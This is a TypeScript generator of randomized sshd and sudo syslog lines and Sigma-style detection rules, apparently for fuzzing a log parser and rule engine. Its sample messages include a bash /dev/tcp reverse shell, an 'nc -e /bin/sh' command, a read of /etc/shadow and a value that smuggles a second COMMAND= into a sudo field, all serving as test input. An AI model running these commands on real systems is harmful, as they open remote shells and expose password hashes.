import type { Dice } from "./made-up.examples.ts";

/** Messages of programs whose lines are judged by their bytes, in all the shapes that their parsers know. */
const MESSAGES: { readonly [program: string]: readonly string[] } = {
  sshd: [
    "Failed password for root from 198.51.100.7 port 4022 ssh2",
    "Failed password for invalid user ADMIN from ::ffff:198.51.100.7 port 4022 ssh2",
    "Failed none for invalid user x from 2001:db8::1 port 1 ssh2",
    "Accepted publickey for Deploy from web7.example port 0022 ssh2: ED25519 SHA256:x",
    "Accepted password for tanuki from port 58244 ssh2",
    "Invalid user  from 198.51.100.7 port 4022",
    "illegal user miha from ::ffff: port 55263 ss",
    "Received disconnect from 198.51.100.7 port 4022:11: Bye Bye [preauth]",
    "error: Received disconnect from 198.51.100.7: 3: com.jcraft.jsch.JSchException: Auth fail [preauth]",
    "Connection closed by authenticating user root 198.51.100.7 port 4022 [preauth]",
    "Disconnected from user deploy 198.51.100.7 port 4022",
    "maximum authentication attempts exceeded for invalid user x from 198.51.100.7 port 4022 ssh2 [preauth]",
    "error: PAM: Authentication failure for illegal user x from 198.51.100.7",
    "reverse mapping checking getaddrinfo for host.example [198.51.100.7] failed - POSSIBLE BREAK-IN ATTEMPT!",
    "Address 198.51.100.7 maps to host.example, but this does not map back to the address - POSSIBLE BREAK-IN ATTEMPT!",
    "User x from 198.51.100.7 not allowed because not listed in AllowUsers",
    "Bad protocol version identification 'GET / HTTP/1.1' from 198.51.100.7 port 4022",
    "Unable to negotiate with 198.51.100.7 port 4022: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]",
    "message repeated 3 times: [ Failed password for root from 198.51.100.7 port 4022 ssh2]",
    "Server listening on 0.0.0.0 port 22.",
    "Received signal 15; terminating.",
    "fatal: buffer_get_string: bad string",
    "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.7  user=root",
    "pam_unix(sshd:session): session opened for user u7(uid=1000) by (uid=0)",
    "pam_unix(passwd:chauthtok): password changed for jim",
    "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.7",
    "(pam_unix) check pass; user unknown",
    "something that no reader knows, and /bin/bash -i >& /dev/tcp/198.51.100.7/80",
  ],
  sudo: [
    "    mike : TTY=pts/2 ; PWD=/home/mike ; USER=root ; COMMAND=/usr/sbin/adduser jim",
    "  Mike : 3 incorrect password attempts ; TTY=pts/2 ; PWD=/home/mike ; USER=root ; COMMAND=/bin/cat /etc/shadow",
    "  mike : user NOT in sudoers ; TTY=unknown ; PWD=/ ; USER=root ; GROUP=wheel ; COMMAND=/bin/sh -c 'echo x; COMMAND=/bin/ls'",
    "  mike : TTY=pts/2 ; PWD=/tmp/COMMAND=/x ; USER=www ; COMMAND=/usr/bin/nc -e /bin/sh 198.51.100.7 80",
    "mike : command not allowed ; TTY=pts/0 ; PWD=/root ; USER=root ; command=/bin/false",
    "pam_unix(sudo:session): session opened for user root by mike(uid=1000)",
    "pam_unix(sudo:auth): conversation failed",
    "  root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/crontab /tmp/hourly",
    "unable to resolve host web7",
  ],
};
const HEADERS = ["Mar 13 10:11:12 web7 ", "Mar  3 10:11:12 web7 ", "Feb 31 10:11:12 web7 ", "Dec 31 25:61:61 198.51.100.9 ", "Mar 13 10:11:12 ", "2026-03-13T10:11:12Z web7 ", "<38>Mar 13 10:11:12 web7 ", "Mar 13 2025 10:11:12 web7 ", "Mar 13 10:11:12 web[7] ", "Mai 13 10:11:12 web7 "];
const TAGS = ["P[4711]: ", "P[4711]: ", "P: ", "P:", "P[]: ", "P(pam_unix)[12]: ", "P[123456789012345678]: ", "P[12]:x ", "P 12 ", "Px[1]: "];
const BYTES = ["a", " ", "  ", "/", "=", ":", "[", "]", "(", ";", "\\", "\t", "\r", "\0", "\u00e9", "\u0130", "\u212a", "\ufffd", "COMMAND=", "from ", "user=", "rhost=", "port 1", "pam_unix(", "/tmp/", "/bin/bash", "root"];

/** A line of text near what these programs write. */
export function textNear(dice: Dice): string {
  const program = dice.pick(Object.keys(MESSAGES));
  const header = dice.oneIn(6) ? dice.pick(HEADERS) : HEADERS[0]!;
  const tag = (dice.oneIn(8) ? dice.pick(TAGS) : TAGS[0]!).replace("P", program);
  let line = header + tag + dice.pick(MESSAGES[dice.oneIn(20) ? dice.pick(Object.keys(MESSAGES)) : program]!);
  for (let changes = dice.oneIn(2) ? 0 : 1 + dice.below(3); changes > 0; changes -= 1) {
    const at = dice.below(line.length + 1);
    line = `${line.slice(0, at)}${dice.pick(BYTES)}${line.slice(at + dice.below(3))}`;
  }
  return line.replaceAll("\n", " ");
}

const FIELDS = ["user", "targetUser", "source", "sourceIp", "message", "host", "CommandLine", "Image", "command", "workingDirectory", "tty", "program", "pid", "sourcePort", "pamService", "line", "Hashes"];
const WORDS = ["root", "mike", "jim", "198.51.100.7", "/bin/", "/tmp/", "bash", "crontab", "shadow", "pts/2", "pam_unix", "preauth", "e", "22", "4711", "nobody here", "Break-In", "COMMAND", "sshd", "a*n", "*"];
const MADE = ["    action: authentication_failed", "    outcome: failure", "    detail|contains: map", "    format: pam", "    category: authentication", "    userUnknown: true", "    repeatCount: 3", "    service: sudo"];
const OPEN = ["    message|re: '(root|jim) .*from'", "    CommandLine|re: '-(e|c)\\s'", "    user: null", "    pid|gt: 100", "    user|exists: true", "    Hashes|exists: true", "    sourceIp|cidr: 198.51.100.0/24", "    parsed: true", "    product: linux"];
const SOURCES = ["product: linux", "product: linux, service: sshd", "product: linux, service: sudo", "product: linux, service: auth", "category: process_creation, product: linux", "product: windows", "category: authentication"];
const CONDITIONS = ["a", "a and b", "a or b", "a and not b", "1 of them", "all of them", "2 of (a, b, c)".replace(" (a, b, c)", " them"), "k", "k and a", "k or a"];

/** A rule over what text lines say. `plain`: it asks only for what stands in the lines themselves. */
export function textRule(dice: Dice, number: number, plain: boolean): string {
  const asked = () => {
    const choice = dice.below(plain ? 3 : 6);
    if (choice === 3) return dice.pick(MADE);
    if (choice > 3) return dice.pick(OPEN);
    const values = Array.from({ length: 1 + dice.below(3) }, () => JSON.stringify(dice.pick(WORDS)));
    return `    ${dice.pick(FIELDS)}${dice.pick(["|contains", "|contains", "|startswith", "|endswith", "", "|contains|all"])}: [${[...new Set(values)].join(", ")}]`;
  };
  const keywords = [...new Set([dice.pick(WORDS), dice.pick(WORDS)])].filter((word) => !plain || word.length > 3);
  const selections = ["a", "b", "c"].map((name) => `  ${name}:\n${asked()}`);
  return `title: T${number}\nid: text-${number}\nlogsource: { ${dice.pick(SOURCES)} }\ndetection:\n${selections.join("\n")}\n  k: [${(keywords.length > 0 ? keywords : ["preauth"]).map((word) => JSON.stringify(word)).join(", ")}]\n  condition: ${dice.pick(CONDITIONS)}\n`;
}
